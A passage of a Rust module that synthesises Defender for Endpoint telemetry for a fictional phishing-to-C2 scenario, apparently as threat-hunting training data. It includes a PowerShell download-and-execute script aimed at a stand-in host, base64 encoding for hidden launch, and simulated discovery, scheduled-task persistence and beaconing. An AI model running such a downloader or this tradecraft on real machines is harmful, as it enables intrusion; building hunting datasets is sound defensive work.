//! Contoso's laptops as Defender for Endpoint sees them: `DeviceProcessEvents`,
//! `DeviceNetworkEvents` and `DeviceFileEvents`, rendered from one [`World`] built on the
//! mail-and-click [`Plan`], so the endpoint story continues the phishing story.
//!
//! # The chapter after the click
//!
//! Emma Vargas is one of the two people Safe Links let through to the campaign page (09:11:48
//! local on the campaign morning, from the office). The page offers a "password reset helper":
//!
//! 1. 09:12:31 Edge saves `Contoso_Password_Reset.zip` in her Downloads folder
//!    (`DeviceFileEvents`, with the campaign page as `FileOriginReferrerUrl`).
//! 2. 09:13:02 she opens the zip; Explorer extracts `Password_Reset_Instructions.pdf.lnk`.
//! 3. 09:13:19 the shortcut starts `powershell.exe -nop -w hidden -enc …` from `explorer.exe`
//!    (`DeviceProcessEvents`; the encoded command is real base64 of UTF-16LE text).
//! 4. That PowerShell drops `sync.ps1`, runs `whoami /all`, asks for the domain admins through
//!    `cmd.exe` → `net.exe`, and registers a logon task with `schtasks.exe`.
//! 5. From 09:13:24 it beacons to the C2 host every five minutes, give or take thirty
//!    seconds (`DeviceNetworkEvents`), while her laptop is on; each later working morning the
//!    scheduled task starts a new hidden PowerShell (parent `svchost.exe`) that carries on.
//!
//! Around that, every Contoso laptop does ordinary things: logon chains (userinit, explorer,
//! Teams, Outlook, OneDrive), Edge renderers, Office documents, Intune scripts in PowerShell,
//! Defender updates, search indexing; web, Teams, OneDrive and Windows service traffic; and
//! downloads, Outlook attachments, OneDrive syncs and Windows Update files. Benign PowerShell,
//! `cmd.exe`, `whoami` and `net` exist too, so the story has to be hunted, not read off.
//!
//! Everything is integer arithmetic from named random streams, like the rest of `src/data`.

use super::build::{bools, table, Dict};
use super::docs;
use super::names::{DOC_WORDS, TEAMS};
use super::plan::{cast, fnv, hour_start, Plan, UTC_OFFSET_HOURS};
use super::rng::{mix2, mix64, push_hex, Rng, Weighted};
use crate::table::{Column, ColumnBuilder, Field, FxHashMap, Prim, Table};
use crate::types::time::{TICKS_PER_DAY, TICKS_PER_HOUR, TICKS_PER_MILLI, TICKS_PER_MINUTE, TICKS_PER_SECOND};
use crate::types::DataType;
use crate::types::{Dynamic, Value};

pub(crate) mod more;

/// Random streams of the endpoint world (the mail plan uses 1..=18).
mod streams {
    pub const DEVICES: u64 = 101;
    pub const PROCESS: u64 = 102;
    pub const NETWORK: u64 = 103;
    pub const FILE: u64 = 104;
    pub const BEACON: u64 = 105;
    pub const DAYS: u64 = 106;
}

pub(crate) const VICTIM: usize = cast::EMMA;
pub(crate) const VICTIM_DEVICE: &str = "ctso-lt-2417.corp.contoso.com";
pub(crate) const STAGING_IP: &str = "203.0.113.77";
pub(crate) const STAGING_HOST: &str = "contoso-login.com";
pub(crate) const ZIP_NAME: &str = "Contoso_Password_Reset.zip";
pub(crate) const ZIP_URL: &str = "https://contoso-login.com/auth/download/Contoso_Password_Reset.zip";
pub(crate) const LNK_NAME: &str = "Password_Reset_Instructions.pdf.lnk";
pub(crate) const STAGE2_NAME: &str = "sync.ps1";
pub(crate) const C2_HOST: &str = "cdn.contososync.net";
pub(crate) const C2_IP: &str = "198.51.100.87";
pub(crate) const TASK_NAME: &str = "ContosoSyncUpdate";
/// The beacon's sleep, and how far each interval may stray from it.
pub(crate) const BEACON_SECONDS: i64 = 300;
pub(crate) const BEACON_JITTER_SECONDS: i64 = 30;

const DNS_SERVER: &str = "10.10.0.10";
const FILE_SERVER: &str = "fs01.corp.contoso.com";

/// A Windows executable with its version information.
struct Image {
    name: &'static str,
    path: &'static str,
    company: &'static str,
    product: &'static str,
    version: &'static str,
    description: &'static str,
    original: &'static str,
    size: i64,
    signer: &'static str,
}

const MS: &str = "Microsoft Corporation";
const WIN: &str = "Microsoft® Windows® Operating System";
const WINVER: &str = "10.0.22621.4317";
const OFFICE: &str = "Microsoft Office";
const OFFVER: &str = "16.0.17928.20156";

macro_rules! images {
    ($($id:ident = ($name:expr, $path:expr, $company:expr, $product:expr, $version:expr, $desc:expr, $orig:expr, $size:expr, $signer:expr);)*) => {
        const IMAGES: &[Image] = &[$(Image { name: $name, path: $path, company: $company, product: $product, version: $version, description: $desc, original: $orig, size: $size, signer: $signer }),*];
        #[allow(non_camel_case_types, clippy::upper_case_acronyms, dead_code)]
        #[derive(Clone, Copy, PartialEq, Eq, Debug)]
        #[repr(u8)]
        enum Img { $($id),* }
    };
}

images! {
    Services = ("services.exe", r"c:\windows\system32\services.exe", MS, WIN, WINVER, "Services and Controller app", "services.exe", 732_160, "OsVendor");
    Svchost = ("svchost.exe", r"c:\windows\system32\svchost.exe", MS, WIN, WINVER, "Host Process for Windows Services", "svchost.exe", 57_360, "OsVendor");
    Winlogon = ("winlogon.exe", r"c:\windows\system32\winlogon.exe", MS, WIN, WINVER, "Windows Logon Application", "WINLOGON.EXE", 904_704, "OsVendor");
    Userinit = ("userinit.exe", r"c:\windows\system32\userinit.exe", MS, WIN, WINVER, "Userinit Logon Application", "USERINIT.EXE", 29_184, "OsVendor");
    Explorer = ("explorer.exe", r"c:\windows\explorer.exe", MS, WIN, WINVER, "Windows Explorer", "EXPLORER.EXE", 5_457_816, "OsVendor");
    Edge = ("msedge.exe", r"c:\program files (x86)\microsoft\edge\application\msedge.exe", MS, "Microsoft Edge", "131.0.2903.86", "Microsoft Edge", "msedge.exe", 4_138_528, "Microsoft");
    Teams = ("ms-teams.exe", r"c:\program files\windowsapps\msteams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe", MS, "Microsoft Teams", "24295.605.3225.8804", "Microsoft Teams", "ms-teams.exe", 1_118_536, "AppStore");
    WebView = ("msedgewebview2.exe", r"c:\program files (x86)\microsoft\edgewebview\application\131.0.2903.86\msedgewebview2.exe", MS, "Microsoft Edge WebView2", "131.0.2903.86", "Microsoft Edge WebView2", "msedgewebview2.exe", 3_320_352, "Microsoft");
    Outlook = ("OUTLOOK.EXE", r"c:\program files\microsoft office\root\office16\outlook.exe", MS, OFFICE, OFFVER, "Microsoft Outlook", "Outlook.exe", 43_652_480, "Microsoft");
    Word = ("WINWORD.EXE", r"c:\program files\microsoft office\root\office16\winword.exe", MS, OFFICE, OFFVER, "Microsoft Word", "WinWord.exe", 2_247_024, "Microsoft");
    Excel = ("EXCEL.EXE", r"c:\program files\microsoft office\root\office16\excel.exe", MS, OFFICE, OFFVER, "Microsoft Excel", "Excel.exe", 67_890_552, "Microsoft");
    OneDrive = ("OneDrive.exe", r"c:\program files\microsoft onedrive\onedrive.exe", MS, "Microsoft OneDrive", "24.211.1020.0002", "Microsoft OneDrive", "OneDrive.exe", 3_461_384, "Microsoft");
    Taskhostw = ("taskhostw.exe", r"c:\windows\system32\taskhostw.exe", MS, WIN, WINVER, "Host Process for Windows Tasks", "taskhostw.exe", 100_864, "OsVendor");
    BgTask = ("backgroundTaskHost.exe", r"c:\windows\system32\backgroundtaskhost.exe", MS, WIN, WINVER, "Background Task Host", "backgroundTaskHost.exe", 29_184, "OsVendor");
    Broker = ("RuntimeBroker.exe", r"c:\windows\system32\runtimebroker.exe", MS, WIN, WINVER, "Runtime Broker", "RuntimeBroker.exe", 143_360, "OsVendor");
    SearchIdx = ("SearchIndexer.exe", r"c:\windows\system32\searchindexer.exe", MS, WIN, WINVER, "Microsoft Windows Search Indexer", "SearchIndexer.exe", 1_060_864, "OsVendor");
    SearchPh = ("SearchProtocolHost.exe", r"c:\windows\system32\searchprotocolhost.exe", MS, WIN, WINVER, "Microsoft Windows Search Protocol Host", "SearchProtocolHost.exe", 416_768, "OsVendor");
    MsMpEng = ("MsMpEng.exe", r"c:\programdata\microsoft\windows defender\platform\4.18.24090.11-0\msmpeng.exe", MS, WIN, "4.18.24090.11", "Antimalware Service Executable", "MsMpEng.exe", 133_552, "OsVendor");
    MpCmdRun = ("MpCmdRun.exe", r"c:\programdata\microsoft\windows defender\platform\4.18.24090.11-0\mpcmdrun.exe", MS, WIN, "4.18.24090.11", "Microsoft Malware Protection Command Line Utility", "MpCmdRun.exe", 1_590_208, "OsVendor");
    AgentExec = ("AgentExecutor.exe", r"c:\program files (x86)\microsoft intune management extension\agentexecutor.exe", MS, "Microsoft Intune Management Extension", "1.83.107.0", "AgentExecutor", "AgentExecutor.exe", 174_000, "Microsoft");
    PowerShell = ("powershell.exe", r"c:\windows\system32\windowspowershell\v1.0\powershell.exe", MS, WIN, WINVER, "Windows PowerShell", "PowerShell.EXE.MUI", 455_680, "OsVendor");
    Cmd = ("cmd.exe", r"c:\windows\system32\cmd.exe", MS, WIN, WINVER, "Windows Command Processor", "Cmd.Exe", 323_584, "OsVendor");
    Conhost = ("conhost.exe", r"c:\windows\system32\conhost.exe", MS, WIN, WINVER, "Console Window Host", "CONHOST.EXE", 1_040_384, "OsVendor");
    Whoami = ("whoami.exe", r"c:\windows\system32\whoami.exe", MS, WIN, WINVER, "whoami - displays logged on user information", "whoami.exe", 73_728, "OsVendor");
    Net = ("net.exe", r"c:\windows\system32\net.exe", MS, WIN, WINVER, "Net Command", "net.exe", 57_344, "OsVendor");
    Schtasks = ("schtasks.exe", r"c:\windows\system32\schtasks.exe", MS, WIN, WINVER, "Task Scheduler Configuration Tool", "schtasks.exe", 235_520, "OsVendor");
    Notepad = ("notepad.exe", r"c:\windows\system32\notepad.exe", MS, WIN, WINVER, "Notepad", "NOTEPAD.EXE", 201_216, "OsVendor");
    Code = ("Code.exe", r"c:\program files\microsoft vs code\code.exe", MS, "Visual Studio Code", "1.95.3", "Visual Studio Code", "electron.exe", 180_226_376, "Microsoft");
    Git = ("git.exe", r"c:\program files\git\cmd\git.exe", "The Git Development Community", "Git", "2.47.1.1", "Git for Windows", "git.exe", 45_936, "Other");
    TrustedInstaller = ("TrustedInstaller.exe", r"c:\windows\servicing\trustedinstaller.exe", MS, WIN, WINVER, "Windows Modules Installer", "TrustedInstaller.exe", 148_480, "OsVendor");
}

/// An account that runs processes: index 0 is the local SYSTEM account, then the users.
pub(crate) struct Account {
    pub domain: String,
    pub name: String,
    pub sid: String,
    pub upn: String,
    pub object_id: String,
}

pub(crate) struct Device {
    pub name: String,
    pub id: String,
    pub office_ip: String,
    pub home_ip: String,
    pub user: usize,
}

/// A process instance: which image, which PID, with what command line, when it started,
/// as whom, and its parent.
#[derive(Clone, Copy)]
struct Proc {
    image: Img,
    pid: i64,
    cmd: u32,
    created: i64,
    account: u32,
    parent: Img,
    parent_pid: i64,
    parent_created: i64,
    elevated: bool,
    session: i64,
}

#[derive(Clone, Copy)]
enum Target {
    Process(Proc),
    File {
        name: u32,
        folder: u32,
        size: i64,
        hash: u64,
        origin: u32,
        referrer: u32,
        origin_ip: u32,
        previous: u32,
    },
    Net {
        remote_ip: u32,
        port: i32,
        url: u32,
        local_port: i32,
        udp: bool,
        public: bool,
    },
    /// A logon on the device (`DeviceLogonEvents`): whose, how, from where.
    Logon {
        account: u32,
        kind: &'static str,
        protocol: &'static str,
        failure: &'static str,
        remote_ip: u32,
        remote_device: u32,
        admin: bool,
        logon_id: i64,
        port: i32,
    },
    /// A registry change (`DeviceRegistryEvents`); `prev` is the value's old data (0: none).
    Registry {
        key: u32,
        name: u32,
        ty: &'static str,
        data: u32,
        prev: u32,
    },
    /// A `DeviceEvents` row: whichever of its columns the action fills, and its
    /// `AdditionalFields` JSON (`extra`); `account` is `u32::MAX` when the row names none.
    Misc {
        file: u32,
        folder: u32,
        url: u32,
        extra: u32,
        reg_key: u32,
        reg_name: u32,
        reg_data: u32,
        remote_ip: u32,
        port: i32,
        account: u32,
    },
}

#[derive(Clone, Copy)]
struct Ev {
    t: i64,
    device: u32,
    action: &'static str,
    init: Proc,
    target: Target,
    home: bool,
    report: i64,
}

/// Strings shared by the events (command lines, paths, URLs), stored once.
#[derive(Default)]
struct Strings {
    list: Vec<String>,
    index: FxHashMap<String, u32>,
}

impl Strings {
    fn new() -> Strings {
        let mut s = Strings::default();
        s.id("");
        s
    }

    fn id(&mut self, text: &str) -> u32 {
        if let Some(&i) = self.index.get(text) {
            return i;
        }
        let i = self.list.len() as u32;
        self.list.push(text.to_string());
        self.index.insert(text.to_string(), i);
        i
    }

    fn get(&self, i: u32) -> &str {
        &self.list[i as usize]
    }
}

/// The endpoint world: devices, accounts and the events of the three tables, each sorted by
/// time.
pub(crate) struct World {
    tenant_id: String,
    devices: Vec<Device>,
    accounts: Vec<Account>,
    strings: Strings,
    image_hashes: Vec<(String, String, String)>,
    process: Vec<Ev>,
    network: Vec<Ev>,
    file: Vec<Ev>,
    logon: Vec<Ev>,
    registry: Vec<Ev>,
    image: Vec<Ev>,
    misc: Vec<Ev>,
}

/// The local (UTC+1) midnight at or before `t`, in UTC ticks.
pub(crate) fn local_midnight(t: i64) -> i64 {
    let local = t + UTC_OFFSET_HOURS * TICKS_PER_HOUR;
    local - local.rem_euclid(TICKS_PER_DAY) - UTC_OFFSET_HOURS * TICKS_PER_HOUR
}

/// Local day of the week (0 = Monday) of the local day starting at `midnight`.
pub(crate) fn weekday(midnight: i64) -> i64 {
    ((midnight + UTC_OFFSET_HOURS * TICKS_PER_HOUR).div_euclid(TICKS_PER_DAY) + 3).rem_euclid(7)
}

pub(crate) fn hms(h: i64, m: i64, s: i64, ms: i64) -> i64 {
    h * TICKS_PER_HOUR + m * TICKS_PER_MINUTE + s * TICKS_PER_SECOND + ms * TICKS_PER_MILLI
}

/// A Windows process id (a multiple of four) from a hash.
fn pid_from(h: u64) -> i64 {
    4 * (300 + (h % 9000) as i64)
}

pub(crate) fn hex(h: u64, n: usize) -> String {
    let mut s = String::with_capacity(n);
    let mut k = 0u64;
    while s.len() < n {
        let left = 16.min(n - s.len());
        push_hex(&mut s, mix2(h, k), left);
        k += 1;
    }
    s
}

/// Standard base64 (with padding) of `bytes`.
fn base64(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// The script behind the encoded command, and PowerShell's `-EncodedCommand` form of it
/// (base64 of the UTF-16LE text).
pub(crate) const STAGE1_SCRIPT: &str = "$d=\"$env:LOCALAPPDATA\\ContosoSync\";New-Item -ItemType Directory -Force $d|Out-Null;\
(New-Object Net.WebClient).DownloadFile('https://cdn.contososync.net/s/sync.ps1',\"$d\\sync.ps1\");\
& \"$d\\sync.ps1\"";

pub(crate) fn encoded_command(script: &str) -> String {
    let utf16: Vec<u8> = script.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    base64(&utf16)
}

/// Integrity levels by elevation.
fn integrity(p: &Proc) -> &'static str {
    if p.account == 0 {
        "System"
    } else if p.elevated {
        "High"
    } else {
        "Medium"
    }
}

fn elevation(p: &Proc) -> &'static str {
    if p.account == 0 || p.elevated {
        "TokenElevationTypeDefault"
    } else {
        "TokenElevationTypeLimited"
    }
}

/// Where Microsoft 365 and public hosts resolve (stable per host, independent of the seed).
fn host_ip(host: &str) -> String {
    let h = mix64(fnv(host));
    let ms = host.contains("microsoft")
        || host.contains("office")
        || host.contains("sharepoint")
        || host.contains("live.com")
        || host.contains("windowsupdate")
        || host.contains("bing");
    let first: u64 = if ms { [13, 20, 40, 52][(h % 4) as usize] } else { [104, 140, 151, 185][(h % 4) as usize] };
    format!("{}.{}.{}.{}", first, (h >> 8) % 256, (h >> 16) % 256, 1 + (h >> 24) % 254)
}

const WEB_HOSTS: &[(&str, u64)] = &[
    ("www.bing.com", 10),
    ("login.microsoftonline.com", 12),
    ("contoso.sharepoint.com", 14),
    ("contoso-my.sharepoint.com", 6),
    ("www.office.com", 5),
    ("learn.microsoft.com", 5),
    ("github.com", 4),
    ("www.linkedin.com", 3),
    ("www.youtube.com", 3),
    ("www.bbc.co.uk", 2),
    ("www.reuters.com", 2),
    ("stackoverflow.com", 2),
    ("intranet.contoso.com", 4),
];
const TEAMS_HOSTS: &[&str] = &["teams.microsoft.com", "presence.teams.microsoft.com", "statics.teams.cdn.office.net", "api.flightproxy.teams.microsoft.com"];
const ONEDRIVE_HOSTS: &[&str] = &["contoso-my.sharepoint.com", "g.live.com", "oneclient.sfx.ms"];
const OUTLOOK_HOSTS: &[&str] = &["outlook.office365.com", "substrate.office.com", "outlook.office.com"];
const WINDOWS_HOSTS: &[(&str, i32)] = &[
    ("settings-win.data.microsoft.com", 443),
    ("v10.events.data.microsoft.com", 443),
    ("ctldl.windowsupdate.com", 80),
    ("login.live.com", 443),
    ("slscr.update.microsoft.com", 443),
];
const DEFENDER_HOSTS: &[&str] = &["wdcp.microsoft.com", "winatp-gw-weu.microsoft.com", "go.microsoft.com"];
const INTUNE_SCRIPTS: &[&str] = &["Set-ContosoBranding", "Remove-StaleVpnProfiles", "Get-BitLockerStatus"];
const SERVICES: &[&str] = &["Schedule", "BITS", "wuauserv", "gpsvc", "Appinfo", "UsoSvc"];

struct Builder<'p> {
    plan: &'p Plan,
    w: World,
    /// Local midnight of the first day in the data: days are numbered from it, so a clock a
    /// week later gives the same days the same numbers (and the same data, shifted).
    first_day: i64,
    /// Per device and local day: `(at home, logon time)`.
    day_cache: FxHashMap<(u32, i64), (bool, i64)>,
}

impl<'p> Builder<'p> {
    /// A key for one device on one local day, independent of where the clock is.
    fn key(&self, device: u32, midnight: i64) -> u64 {
        mix2(device as u64, (midnight - self.first_day).div_euclid(TICKS_PER_DAY) as u64)
    }

    fn day(&mut self, device: u32, midnight: i64) -> (bool, i64) {
        let seed = self.plan.spec.seed;
        let key = self.key(device, midnight);
        *self.day_cache.entry((device, midnight)).or_insert_with(|| work_day(seed, key, device, midnight))
    }

    fn explorer(&mut self, device: u32, midnight: i64) -> Proc {
        let (_, logon) = self.day(device, midnight);
        let account = self.w.devices[device as usize].user as u32 + 1;
        let h = self.key(device, midnight);
        let cmd = self.w.strings.id(r"C:\WINDOWS\Explorer.EXE");
        Proc {
            image: Img::Explorer,
            pid: pid_from(mix2(h, 1)),
            cmd,
            created: logon + 4 * TICKS_PER_SECOND + 120 * TICKS_PER_MILLI,
            account,
            parent: Img::Userinit,
            parent_pid: pid_from(mix2(h, 2)),
            parent_created: logon + 3 * TICKS_PER_SECOND,
            elevated: false,
            session: 1,
        }
    }

    /// A user application started at logon by Explorer (stable PID through the day).
    fn app(&mut self, device: u32, midnight: i64, image: Img, cmd: &str) -> Proc {
        let ex = self.explorer(device, midnight);
        let h = mix2(self.key(device, midnight), image as u64 + 10);
        Proc {
            image,
            pid: pid_from(h),
            cmd: self.w.strings.id(cmd),
            created: ex.created + (10 + (h % 80) as i64) * TICKS_PER_SECOND,
            account: ex.account,
            parent: Img::Explorer,
            parent_pid: ex.pid,
            parent_created: ex.created,
            elevated: false,
            session: 1,
        }
    }

    /// A system process running since the device woke up the evening before.
    fn system(&mut self, device: u32, midnight: i64, image: Img, parent: Img, cmd: &str) -> Proc {
        let h = mix2(self.key(device, midnight), image as u64 + 50);
        let boot = midnight - 6 * TICKS_PER_HOUR + ((h >> 8) % 3600) as i64 * TICKS_PER_SECOND;
        Proc {
            image,
            pid: pid_from(h),
            cmd: self.w.strings.id(cmd),
            created: boot + (5 + (h % 60) as i64) * TICKS_PER_SECOND,
            account: 0,
            parent,
            parent_pid: pid_from(mix2(h, 7)),
            parent_created: boot,
            elevated: false,
            session: 0,
        }
    }

    fn child(&mut self, parent: &Proc, image: Img, cmd: &str, t: i64, pid_hash: u64) -> Proc {
        Proc {
            image,
            pid: pid_from(pid_hash),
            cmd: self.w.strings.id(cmd),
            created: t,
            account: parent.account,
            parent: parent.image,
            parent_pid: parent.pid,
            parent_created: parent.created,
            elevated: parent.elevated,
            session: parent.session,
        }
    }

    fn user_home(&self, device: u32) -> String {
        let u = &self.plan.users[self.w.devices[device as usize].user];
        format!(r"C:\Users\{}.{}", u.first.to_lowercase(), u.last.to_lowercase())
    }
}

pub(crate) fn make_devices(plan: &Plan) -> (Vec<Device>, Vec<Account>) {
    let seed = plan.spec.seed;
    let mut taken: FxHashMap<u64, ()> = FxHashMap::default();
    taken.insert(2417, ());
    let mut devices = Vec::with_capacity(plan.users.len());
    let mut rng = Rng::stream(seed, streams::DEVICES);
    for (u, user) in plan.users.iter().enumerate() {
        let name = if u == VICTIM {
            VICTIM_DEVICE.to_string()
        } else {
            // Stable per person (independent of the seed), unique within the company.
            let mut n = 2000 + fnv(&user.upn) % 7000;
            while taken.insert(n, ()).is_some() {
                n = 2000 + (n - 1999) % 7000;
            }
            format!("ctso-lt-{n}.corp.contoso.com")
        };
        let office = plan.users[u].office;
        devices.push(Device {
            id: hex(mix2(seed, fnv(&name)), 40),
            office_ip: format!("10.{}.{}.{}", 20 + office, 16 + u / 200, 10 + u % 200),
            home_ip: format!("192.168.{}.{}", [1, 0, 178, 2][rng.index(4)], 20 + rng.below(200)),
            name,
            user: u,
        });
    }
    let sub = mix2(seed, 0x51D);
    let domain_sid = format!(
        "S-1-5-21-{}-{}-{}",
        1_000_000_000 + sub % 1_000_000_000,
        1_000_000_000 + (sub >> 20) % 1_000_000_000,
        1_000_000_000 + mix64(sub) % 1_000_000_000
    );
    let mut accounts =
        vec![Account { domain: "nt authority".into(), name: "system".into(), sid: "S-1-5-18".into(), upn: String::new(), object_id: String::new() }];
    for (u, user) in plan.users.iter().enumerate() {
        accounts.push(Account {
            domain: "contoso".into(),
            name: format!("{}.{}", user.first.to_lowercase(), user.last.to_lowercase()),
            sid: format!("{domain_sid}-{}", 1104 + u),
            upn: user.upn.clone(),
            object_id: user.object_id.clone(),
        });
    }
    (devices, accounts)
}

/// How many background rows each table gets for a plan of `rows` clicks.
fn volumes(rows: usize) -> (usize, usize, usize) {
    const CAP: usize = 4_000_000;
    (rows.min(CAP), (2 * rows).min(CAP), (rows / 2).min(CAP))
}

impl World {
    pub(crate) fn build(plan: &Plan) -> World {
        let (devices, accounts) = make_devices(plan);
        let image_hashes = IMAGES
            .iter()
            .map(|i| {
                let h = fnv(i.path) ^ fnv(i.version);
                (hex(mix2(h, 1), 40), hex(mix2(h, 2), 64), hex(mix2(h, 3), 32))
            })
            .collect();
        let w = World {
            tenant_id: plan.tenant_id.clone(),
            devices,
            accounts,
            strings: Strings::new(),
            image_hashes,
            process: Vec::new(),
            network: Vec::new(),
            file: Vec::new(),
            logon: Vec::new(),
            registry: Vec::new(),
            image: Vec::new(),
            misc: Vec::new(),
        };
        let first_day = local_midnight(hour_start(plan.spec.clock, 0));
        let mut b = Builder { plan, w, first_day, day_cache: FxHashMap::default() };
        let (np, nn, nf) = volumes(plan.spec.rows);
        b.logons();
        b.background_processes(np);
        b.admin_routine();
        b.background_network(nn);
        b.background_files(nf);
        b.story();
        b.second_chapter();
        let mut w = b.w;
        let clock = plan.spec.clock;
        let start = hour_start(clock, 0);
        for evs in [&mut w.process, &mut w.network, &mut w.file, &mut w.logon, &mut w.registry, &mut w.image, &mut w.misc] {
            evs.retain(|e| e.t >= start && e.t < clock);
            crate::util::sort::sort_by_key(evs, |e| (e.t, e.device));
            // ReportId: a counter per device, as the sensor numbers its reports.
            let mut next: Vec<i64> = (0..w.devices.len() as u64).map(|d| 1000 + (mix2(plan.spec.seed, d) % 50_000) as i64).collect();
            for e in evs.iter_mut() {
                let n = &mut next[e.device as usize];
                e.report = *n;
                *n += 1 + (e.t % 3);
            }
        }
        w
    }
}

impl Builder<'_> {
    /// Each working day, each person's logon: userinit starts Explorer, and Explorer starts
    /// Teams, Outlook and OneDrive.
    fn logons(&mut self) {
        let clock = self.plan.spec.clock;
        let first = local_midnight(hour_start(clock, 0));
        for d in 0..self.w.devices.len() as u32 {
            let mut midnight = first;
            while midnight < clock {
                if weekday(midnight) < 5 {
                    let ex = self.explorer(d, midnight);
                    let h = self.key(d, midnight);
                    let winlogon = self.system(d, midnight, Img::Winlogon, Img::Services, "winlogon.exe");
                    let userinit_cmd = self.w.strings.id(r"C:\WINDOWS\system32\userinit.exe");
                    let userinit = Proc {
                        image: Img::Userinit,
                        pid: ex.parent_pid,
                        cmd: userinit_cmd,
                        created: ex.parent_created,
                        account: ex.account,
                        parent: Img::Winlogon,
                        parent_pid: winlogon.pid,
                        parent_created: winlogon.created,
                        elevated: false,
                        session: 1,
                    };
                    let mut init_of_userinit = winlogon;
                    init_of_userinit.account = 0;
                    self.push_process(ex.parent_created, d, init_of_userinit, userinit);
                    self.push_process(ex.created, d, userinit, ex);
                    for (img, cmd) in [
                        (Img::Teams, r#""C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe" msteams:system-initiated"#),
                        (Img::Outlook, r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" "#),
                        (Img::OneDrive, r#""C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background"#),
                    ] {
                        let p = self.app(d, midnight, img, cmd);
                        self.push_process(p.created, d, ex, p);
                    }
                    let _ = h;
                }
                midnight += TICKS_PER_DAY;
            }
        }
    }

    /// The IT admin's working day: a console after logon, `whoami` and `whoami /groups`, and
    /// the IT share mapped with `net use`. Every working day, whatever the clock, so the
    /// everyday use of these tools always has a person who runs them again and again.
    fn admin_routine(&mut self) {
        let clock = self.plan.spec.clock;
        let d = cast::AISHA as u32;
        let mut midnight = local_midnight(hour_start(clock, 0));
        while midnight < clock {
            if weekday(midnight) < 5 {
                let ex = self.explorer(d, midnight);
                let h = mix2(self.key(d, midnight), 0xAD);
                let t = ex.created + (9 * 60 + (h % 600) as i64) * TICKS_PER_SECOND;
                let cmd = self.child(&ex, Img::Cmd, r#""C:\WINDOWS\system32\cmd.exe" "#, t, mix2(h, 1));
                self.push_process(t, d, ex, cmd);
                let steps = [
                    (Img::Whoami, "whoami".to_string(), 12),
                    (Img::Whoami, "whoami /groups".to_string(), 31),
                    (Img::Net, format!(r"net  use Z: \\{FILE_SERVER}\IT"), 75),
                ];
                for (k, (image, line, secs)) in steps.into_iter().enumerate() {
                    let at = t + secs * TICKS_PER_SECOND + ((h >> (8 * k)) % 1000) as i64 * TICKS_PER_MILLI;
                    let p = self.child(&cmd, image, &line, at, mix2(h, 2 + k as u64));
                    self.push_process(at, d, cmd, p);
                }
            }
            midnight += TICKS_PER_DAY;
        }
    }

    fn push_process(&mut self, t: i64, device: u32, init: Proc, created: Proc) {
        let home = self.day(device, local_midnight(t)).0;
        self.w.process.push(Ev { t, device, action: "ProcessCreated", init, target: Target::Process(created), home, report: 0 });
    }

    fn pick_time(&self, rng: &mut Rng, hours: &Weighted) -> (i64, bool) {
        let i = hours.sample(rng);
        let t = hour_start(self.plan.spec.clock, i) + rng.range(1, 3_600_000) * TICKS_PER_MILLI;
        (t, self.plan.timeline.is_work_hour(i))
    }

    fn user_pick(&self) -> Weighted {
        Weighted::new(self.plan.users.iter().map(|u| u.weight))
    }

    fn background_processes(&mut self, n: usize) {
        let seed = self.plan.spec.seed;
        let mut rng = Rng::stream(seed, streams::PROCESS);
        let hours = Weighted::new(self.plan.hour_weights.iter().copied());
        let users = self.user_pick();
        // (weight, work hours only?)
        let kinds = Weighted::new([30, 10, 5, 4, 4, 8, 8, 1, 1, 2, 1, 2, 1, 1, 6, 6, 8, 2, 3]);
        for k in 0..n {
            let (mut t, work) = self.pick_time(&mut rng, &hours);
            let d = users.sample(&mut rng) as u32;
            let midnight = local_midnight(t);
            let h = mix2(mix2(seed, streams::PROCESS), k as u64);
            let mut kind = kinds.sample(&mut rng);
            if !work && kind < 14 {
                kind = 14 + rng.index(5);
            }
            let home = self.user_home(d);
            let (init, image, cmd) = match kind {
                0 => {
                    let p = self.app(d, midnight, Img::Edge, r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default"#);
                    (
                        p,
                        Img::Edge,
                        format!(
                            r#""msedge.exe" --type=renderer --lang=en-US --renderer-client-id={} --launch-time-ticks={} /prefetch:1"#,
                            5 + rng.below(400),
                            rng.range(1_000_000, 9_000_000_000)
                        ),
                    )
                }
                1 => {
                    let p = self.app(
                        d,
                        midnight,
                        Img::Teams,
                        r#""C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe" msteams:system-initiated"#,
                    );
                    (
                        p,
                        Img::WebView,
                        format!(
                            r#""msedgewebview2.exe" --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe --type=renderer --renderer-client-id={} /prefetch:1"#,
                            5 + rng.below(300)
                        ),
                    )
                }
                2 => {
                    let ex = self.explorer(d, midnight);
                    (
                        ex,
                        Img::Word,
                        format!(
                            r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "{home}\OneDrive - Contoso\Documents\{}_{}.docx" /o """#,
                            rng.pick(DOC_WORDS),
                            rng.pick(DOC_WORDS)
                        ),
                    )
                }
                3 => {
                    let ex = self.explorer(d, midnight);
                    (
                        ex,
                        Img::Excel,
                        format!(
                            r#""C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "{home}\OneDrive - Contoso\Documents\{}_{}.xlsx""#,
                            rng.pick(DOC_WORDS),
                            rng.pick(DOC_WORDS)
                        ),
                    )
                }
                4 => {
                    let p = self.app(d, midnight, Img::Outlook, r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" "#);
                    (
                        p,
                        Img::Edge,
                        format!(
                            r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://contoso.sharepoint.com/sites/{}/Shared%20Documents/{}.docx"#,
                            rng.pick(TEAMS),
                            rng.pick(DOC_WORDS)
                        ),
                    )
                }
                5 => {
                    let p = self.system(d, midnight, Img::Svchost, Img::Services, r"C:\WINDOWS\system32\svchost.exe -k DcomLaunch -p");
                    let mut p = p;
                    p.account = self.w.devices[d as usize].user as u32 + 1;
                    (p, Img::BgTask, r#""C:\WINDOWS\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider"#.to_string())
                }
                6 => {
